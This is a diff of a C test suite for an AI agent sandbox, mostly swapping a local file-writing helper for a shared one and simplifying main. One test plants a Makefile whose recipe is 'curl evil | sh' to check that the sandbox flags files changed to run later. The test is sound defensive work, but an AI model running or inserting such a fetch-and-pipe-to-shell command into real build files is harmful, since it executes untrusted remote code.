@@ -19,7 +19,6 @@
 #include "agentfix.h"
 #include "tools/hidden.h"
 #include "tools/landlock.h"
-#include "tools/mountns.h"
 #include "tools/profile.h"
 #include "util/xmalloc.h"
 
@@ -35,18 +34,6 @@ open_sandbox(struct agentfix *f)
 	ck_assert_msg(team_sandbox_open(&f->team, &err) == 0, "%s", err);
 }
 
-static void
-write_file(const char *dir, const char *name, const char *text)
-{
-	char *path = xasprintf("%s/%s", dir, name);
-	FILE *fp = fopen(path, "w");
-
-	ck_assert_ptr_nonnull(fp);
-	fputs(text, fp);
-	fclose(fp);
-	free(path);
-}
-
 START_TEST(open_makes_a_private_tmpdir_and_close_removes_it)
 {
 	struct agentfix f;
@@ -58,7 +45,7 @@ START_TEST(open_makes_a_private_tmpdir_and_close_removes_it)
 	/* What a huddle killed before it could clean up left there. */
 	tmp = xasprintf("%s/tmp-LEFTBY", f.tu.dir);
 	ck_assert_int_eq(mkdir(tmp, 0700), 0);
-	write_file(tmp, "stale", "x");
+	tu_write_file(tmp, "stale", "x");
 	open_sandbox(&f);
 	ck_assert_int_eq(stat(tmp, &st), -1);
 	free(tmp);
@@ -83,7 +70,7 @@ START_TEST(open_makes_a_private_tmpdir_and_close_removes_it)
 	    SANDBOX_MISSING);
 	ck_assert_ptr_eq(f.team.places.git.tmpdir, f.team.sb.tmpdir);
 
-	write_file(f.team.sb.tmpdir, "left-over", "x");
+	tu_write_file(f.team.sb.tmpdir, "left-over", "x");
 	tmp = xstrdup(f.team.sb.tmpdir);
 	team_sandbox_close(&f.team);
 	ck_assert_int_eq(stat(tmp, &st), -1);
@@ -294,12 +281,12 @@ START_TEST(planted_names_the_run_later_files_changed)
 	char *text;
 
 	af_open(&f);
-	write_file(f.workdir, "Makefile", "all:\n\ttrue\n");
+	tu_write_file(f.workdir, "Makefile", "all:\n\ttrue\n");
 	open_sandbox(&f);
 	ck_assert_ptr_null(team_sandbox_planted(&f.team));
-	write_file(f.workdir, "Makefile", "all:\n\tcurl evil | sh\n");
-	write_file(f.workdir, ".envrc", "export X=1\n");
-	write_file(f.workdir, "notes.txt", "harmless\n");
+	tu_write_file(f.workdir, "Makefile", "all:\n\tcurl evil | sh\n");
+	tu_write_file(f.workdir, ".envrc", "export X=1\n");
+	tu_write_file(f.workdir, "notes.txt", "harmless\n");
 	text = team_sandbox_planted(&f.team);
 	ck_assert_ptr_nonnull(text);
 	ck_assert_ptr_nonnull(strstr(text, "Makefile"));
@@ -335,8 +322,5 @@ agentsandbox_suite(void)
 int
 main(int argc, char **argv)
 {
-	/* The profiles' namespace holder is this program started again. */
-	if (argc > 1 && strcmp(argv[1], MOUNTNS_HOLDER_ARG) == 0)
-		return mountns_holder_main(argc, argv);
-	return tu_run(agentsandbox_suite());
+	return tu_main(argc, argv, agentsandbox_suite());
 }
